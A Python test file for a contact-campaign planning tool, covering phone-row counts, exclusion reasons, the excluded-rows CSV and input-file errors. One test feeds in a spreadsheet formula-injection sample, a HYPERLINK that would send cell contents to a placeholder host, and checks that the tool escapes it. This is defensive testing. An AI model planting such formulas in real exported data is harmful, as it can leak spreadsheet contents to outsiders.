"""The plan in front of a person: it adds up, and its examples lead to the rows without showing phones."""

import csv
import io
from pathlib import Path

import pytest
from rich.console import Console

from jobs.campaigns.plan import Plan, plan
from jobs.cli.exits import Exit
from jobs.cli.failures import Failure
from jobs.cli.planning import read_plan, sum_check, write_excluded
from jobs.contacts import Row
from jobs.documents.plans import examples, plan_document, sentence_of
from jobs.phones import Refusal

ERR = Console(file=io.StringIO())


def planned(*texts: str) -> Plan:
    return plan(Row(line, text) for line, text in enumerate(texts, start=1))


def test_examples_are_of_as_many_reasons_as_there_are() -> None:
    shown = examples(planned("6175550123", *["6175550123"] * 50, "n/a", *[""] * 20).excluded)
    assert len(shown) == 10
    assert {each.reason for each in shown} == {Refusal.DUPLICATE, Refusal.NOT_A_NUMBER, Refusal.EMPTY}
    assert [each.line for each in shown] == sorted(each.line for each in shown)


def test_a_sum_that_does_not_add_up_is_not_kept_quiet() -> None:
    assert sum_check(25_000, 24_100, 900).plain == "25,000 rows = 24,100 phones + 900 excluded"
    assert "DOES NOT ADD UP" in sum_check(25_000, 24_100, 901).plain


def test_the_document_has_counts_and_lines_but_no_text_of_a_row() -> None:
    document = plan_document(planned("6175550123", "617-555-0123", "canary"))
    assert document == {
        "rows": 3,
        "phones": 1,
        "submissions": 1,
        "excluded": 2,
        "excluded_by_reason": {"duplicate": 1, "not_a_number": 1},
        "examples": [
            {"line": 2, "reason": "duplicate", "kept_line": 1},
            {"line": 3, "reason": "not_a_number", "kept_line": None},
        ],
    }


def test_every_row_that_is_left_out_is_written_with_its_sentence(tmp_path: Path) -> None:
    path = tmp_path / "excluded.csv"
    write_excluded(path, planned("6175550123", "n/a", "a, b\nc", "617-555-0123"))
    with path.open(newline="") as file:
        assert list(csv.reader(file)) == [
            ["line", "reason", "sentence", "text", "kept_line"],
            ["2", "not_a_number", Refusal.NOT_A_NUMBER.sentence, "n/a", ""],
            ["3", "not_a_number", Refusal.NOT_A_NUMBER.sentence, "a, b\nc", ""],
            ["4", "duplicate", Refusal.DUPLICATE.sentence, "617-555-0123", "1"],
        ]


def test_no_row_that_is_left_out_is_a_formula_in_a_spreadsheet(tmp_path: Path) -> None:
    path = tmp_path / "excluded.csv"
    write_excluded(path, planned('=HYPERLINK("https://example.com/?"&A1)', "@sum", "n/a =1"))
    with path.open(newline="") as file:
        texts = [row["text"] for row in csv.DictReader(file)]
    assert texts == ['\'=HYPERLINK("https://example.com/?"&A1)', "'@sum", "n/a =1"]


def test_a_reason_of_another_version_has_no_sentence() -> None:
    assert sentence_of("duplicate") == Refusal.DUPLICATE.sentence
    assert sentence_of("on_the_moon") == ""


@pytest.mark.parametrize(
    ("content", "sentence"),
    [
        (b"", "the file is empty"),
        (b"PK\x03\x04", "spreadsheet file (.xlsx, .ods)"),
        (b"a,b\nx,y\n", "no column looks like phone numbers"),
    ],
)
def test_a_file_that_cannot_be_used_says_what_to_do(tmp_path: Path, content: bytes, sentence: str) -> None:
    path = tmp_path / "contacts.csv"
    path.write_bytes(content)
    with pytest.raises(Failure) as failed:
        read_plan(str(path), None, err=ERR)
    assert failed.value.exit_code is Exit.BAD_INPUT
    assert sentence in failed.value.problems[0]


def test_a_large_file_says_that_it_is_being_read(tmp_path: Path) -> None:
    path, err = tmp_path / "large.csv", Console(file=io.StringIO(), width=200)
    path.write_text(f"6175550123,{'x' * 100_000}\n" * 201)
    assert read_plan(str(path), "1", err=err)[0].phone_count == 1
    assert "Reading" in err.file.getvalue()  # type: ignore[attr-defined]  # the file is the StringIO from above
